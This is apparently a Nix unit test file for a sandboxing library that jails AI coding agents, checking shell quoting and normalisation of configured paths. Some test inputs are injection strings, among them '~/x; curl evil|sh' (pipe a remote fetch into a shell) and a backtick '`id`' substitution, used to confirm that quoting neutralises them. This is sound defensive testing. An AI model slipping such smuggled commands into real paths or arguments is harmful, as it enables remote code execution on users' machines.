# The path-quoting rule on exact words; tests/nix_library.rs decodes the same words with bash.
{
  h ? import ./helpers.nix { },
}:
let
  inherit (h) call noescape;
  inherit (h.jailgen.internals) paths;

  agentBinds =
    p:
    builtins.filter (c: c.name == "readonly") (
      h.calls (
        h.jailgen.makeJailedAgent {
          name = "a";
          pkg = h.pkgs.hello;
          configPaths = [ ];
          extraReadonlyDirs = [ p ];
        }
      )
    );
in
{
  "test: a plain home path stays readable" = {
    expr = paths.word "~/.config/my-agent";
    expected = "~/.config/my-agent";
  };
  "test: a home path with a space keeps the tilde outside the quotes" = {
    expr = paths.word "~/my dir";
    expected = "~/'my dir'";
  };
  "test: an injection attempt after a tilde is quoted" = {
    expr = paths.word "~/x; curl evil|sh";
    expected = "~/'x; curl evil|sh'";
  };
  "test: a single quote in a home path is closed, escaped and reopened" = {
    expr = paths.word "~/it's";
    expected = "~/'it'\\''s'";
  };
  "test: an absolute path is quoted whole" = {
    expr = paths.word "/srv/a b";
    expected = "'/srv/a b'";
  };
  "test: a bare tilde is the home directory" = {
    expr = paths.word "~";
    expected = "~";
  };
  "test: paths are normalised before quoting" = {
    expr = map paths.normalize [
      "~/a//b/"
      "/srv/./x/"
      "~/"
      "/"
    ];
    expected = [
      "~/a/b"
      "/srv/x"
      "~"
      "/"
    ];
  };
  "test: a home path reaches jail.nix as noescape of the quoted word" = {
    expr = agentBinds "~/a b";
    expected = [ (call "readonly" [ (noescape "~/'a b'") ]) ];
  };
  "test: an absolute path reaches jail.nix as a plain string for it to quote" = {
    expr = agentBinds "/srv/a b";
    expected = [ (call "readonly" [ "/srv/a b" ]) ];
  };
  "test: a dollar or backtick goes in double quotes with those characters escaped" = {
    expr = map paths.word [
      "~/a $b"
      "/srv/`id`"
      "/x/\\\"$"
    ];
    expected = [
      "~/\"a \\$b\""
      "\"/srv/\\`id\\`\""
      "\"/x/\\\\\\\"\\$\""
    ];
  };
  "test: an absolute path with a dollar reaches jail.nix as noescape of the double-quoted word" = {
    expr = agentBinds "/srv/a $b";
    expected = [ (call "readonly" [ (noescape "\"/srv/a \\$b\"") ]) ];
  };
  "test: jail.nix renders the home path as one shell word" = {
    expr =
      builtins.length (
        builtins.split "--ro-bind ~/'a b;c' ~/'a b;c'"
          (h.jailgen.makeJailedAgent {
            name = "a";
            pkg = h.pkgs.hello;
            configPaths = [ ];
            extraReadonlyDirs = [ "~/a b;c" ];
          }).text
      ) > 1;
    expected = true;
  };
  "test: a state path is a file only with an extension from file-extensions.json" = {
    expr = map paths.isFile [
      "~/.claude.json"
      "~/.claude"
      "~/.config/a.d/x.toml"
      "~/.local/share/amp"
      "~/.config/io.datasette.llm"
      "~/archive.tar.gz"
      "~/.env"
    ];
    expected = [
      true
      false
      true
      false
      false
      false
      true
    ];
  };
}
